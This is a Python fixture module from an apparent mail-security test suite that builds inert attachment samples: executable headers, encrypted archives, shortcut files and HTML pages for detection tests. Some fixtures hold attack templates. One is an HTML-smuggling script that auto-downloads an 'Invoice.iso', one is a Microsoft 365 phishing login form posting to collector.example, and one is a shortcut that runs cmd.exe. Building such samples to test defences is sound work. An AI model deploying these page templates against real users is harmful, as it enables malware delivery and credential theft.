"""Attachment files built in code, byte by byte: the repository never holds real malware.

The macro documents are real VBA projects (MS-OVBA streams inside an MS-CFB compound file) so
that olevba parses them exactly as it parses a document from Word; nothing here is executable.
"""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib

from tradeguard.domains.mail.message import Attachment
from tradeguard.domains.mail.samples import (  # the Office builders, shared with the simulator
    MACRO_SOURCE,
    compound_file,
    docm,
    docx,
    macro_doc,
    ovba_compress,
    vba_project,
)

__all__ = [
    "MACRO_SOURCE",
    "compound_file",
    "docm",
    "docx",
    "macro_doc",
    "ovba_compress",
    "vba_project",
]


def attachment(
    filename: str, data: bytes, content_type: str = "application/octet-stream"
) -> Attachment:
    return Attachment(filename=filename, content_type=content_type, size=len(data), data=data)


# --- programs, archives, images -----------------------------------------------------------


def pe(sections: tuple[bytes, ...] = (b".text", b".data")) -> bytes:
    """An 'MZ' header pointing at 'PE\\0\\0', a COFF header and section names: magic, no code."""
    dos = bytearray(0x80)
    dos[:4], dos[0x3C:0x40] = b"MZ\x90\x00", struct.pack("<I", 0x80)
    dos[0x40:0x67] = b"This program cannot be run"[:0x27].ljust(0x27, b" ")
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x14C, len(sections), 0, 0, 0, 0xE0, 0x102)
    table = b"".join(name.ljust(8, b"\0") + bytes(32) for name in sections)
    return bytes(dos) + coff + bytes(0xE0) + table + bytes(256)


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(57)


def zip_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def encrypted_zip(members: dict[str, bytes]) -> bytes:
    """A ZIP whose members say 'encrypted' (bit 0 of the flags) in both header kinds."""
    data = bytearray(zip_of(members))
    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        position = data.find(signature)
        while position >= 0:
            data[position + flag_at] |= 0x01
            position = data.find(signature, position + 4)
    return bytes(data)


def rar5(*, encrypted_headers: bool) -> bytes:
    """A RAR5 start: signature, then an encryption header (type 4) or a main header (type 1)."""
    body = b"\x04\x00\x00\x01\x0f" + bytes(28) if encrypted_headers else b"\x01\x00\x00"
    header = bytes([len(body)]) + body
    return b"Rar!\x1a\x07\x01\x00" + struct.pack("<I", zlib.crc32(header)) + header


def rar4(*, encrypted_headers: bool) -> bytes:
    """A RAR 4 marker and main header; MHD_PASSWORD (0x80) means the headers are encrypted."""
    flags = 0x0080 if encrypted_headers else 0x0000
    return b"Rar!\x1a\x07\x00" + struct.pack("<HBHH", 0, 0x73, flags, 13) + bytes(6)


def sevenzip(*, aes: bool) -> bytes:
    """A 7z signature header pointing at an encoded header whose coder is AES or LZMA."""
    coder = b"\x24\x06\xf1\x07\x01\x10" if aes else b"\x23\x03\x01\x01\x05"
    header = b"\x17\x06\x00\x01\x09\x20\x00\x07\x0b\x01\x00\x01" + coder + bytes(8)
    start = struct.pack("<QQI", 32, len(header), zlib.crc32(header))
    return (
        b"7z\xbc\xaf\x27\x1c\x00\x04"
        + struct.pack("<I", zlib.crc32(start))
        + start
        + bytes(32)
        + header
    )


def iso() -> bytes:
    return bytes(0x8001) + b"CD001\x01" + bytes(0x7FA)


def vhdx() -> bytes:
    return b"vhdxfile" + bytes(1024)


def lnk(target: str = r"C:\Windows\System32\cmd.exe /c start invoice.pdf") -> bytes:
    """A shell-link header (4C 00 00 00 + the link CLSID) followed by a target in UTF-16."""
    link_clsid = bytes.fromhex("4C0000000114020000000000C000000000000046")
    return link_clsid + bytes(56) + target.encode("utf-16-le")


def onenote_with_file(payload: bytes = b"MZ\x90\x00" + bytes(60)) -> bytes:
    """A OneNote header GUID, then a FileDataStoreObject header GUID and the embedded bytes."""
    header = bytes.fromhex("E4525C7B8CD8A74DAEB15378D02996D3")
    store = bytes.fromhex("E716E3BD65261145A4C48D4D0B7A9EAC")
    return header + bytes(1024) + store + struct.pack("<Q", len(payload)) + payload


def apple_profile(payload_type: str) -> bytes:
    """The plist inside a configuration profile (signed ones wrap the same XML in PKCS#7)."""
    return f"""<?xml version="1.0" encoding="UTF-8"?><plist version="1.0"><dict>
<key>PayloadContent</key><array><dict><key>PayloadType</key><string>{payload_type}</string>
</dict></array><key>PayloadType</key><string>Configuration</string></dict></plist>""".encode()


def pdf() -> bytes:
    return b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def png() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + bytes(32)


# --- web pages ------------------------------------------------------------------------------


def smuggling_page(payload: bytes = pe() * 8) -> bytes:
    blob = base64.b64encode(payload).decode()
    return f"""<!DOCTYPE html><html><body><p>Your document is downloading…</p><script>
var d = atob("{blob}"); var b = new Uint8Array(d.length);
for (var i = 0; i < d.length; i++) {{ b[i] = d.charCodeAt(i); }}
var f = new Blob([b], {{type: "application/octet-stream"}}); var a = document.createElement("a");
a.href = URL.createObjectURL(f); a.download = "Invoice.iso"; a.click();
</script></body></html>""".encode()


def login_page() -> bytes:
    return b"""<html><head><title>Microsoft 365</title></head><body>
<form method="post" action="https://collector.example/next.php">
<input type="email" name="login"><input type="password" name="passwd">
<button type="submit">Sign in</button></form></body></html>"""


def newsletter(image: bytes = png() * 200) -> bytes:
    inline = base64.b64encode(image).decode()
    return f"""<!doctype html><html><body><h1>Spring offers</h1>
<img src="data:image/png;base64,{inline}"><p>Twenty percent off all garden tools.</p>
<a href="https://shop.example/offers">See the offers</a></body></html>""".encode()


def subscribe_form() -> bytes:
    """A newsletter's own form: an e-mail box to subscribe and the list's hidden fields."""
    return b"""<html><body><p>Forward this issue to a friend</p>
<form action="https://lists.example/subscribe" method="post">
<input type="hidden" name="listuser" value="enews"><input type="text" name="email_address">
<input type="submit" value="Subscribe"></form></body></html>"""
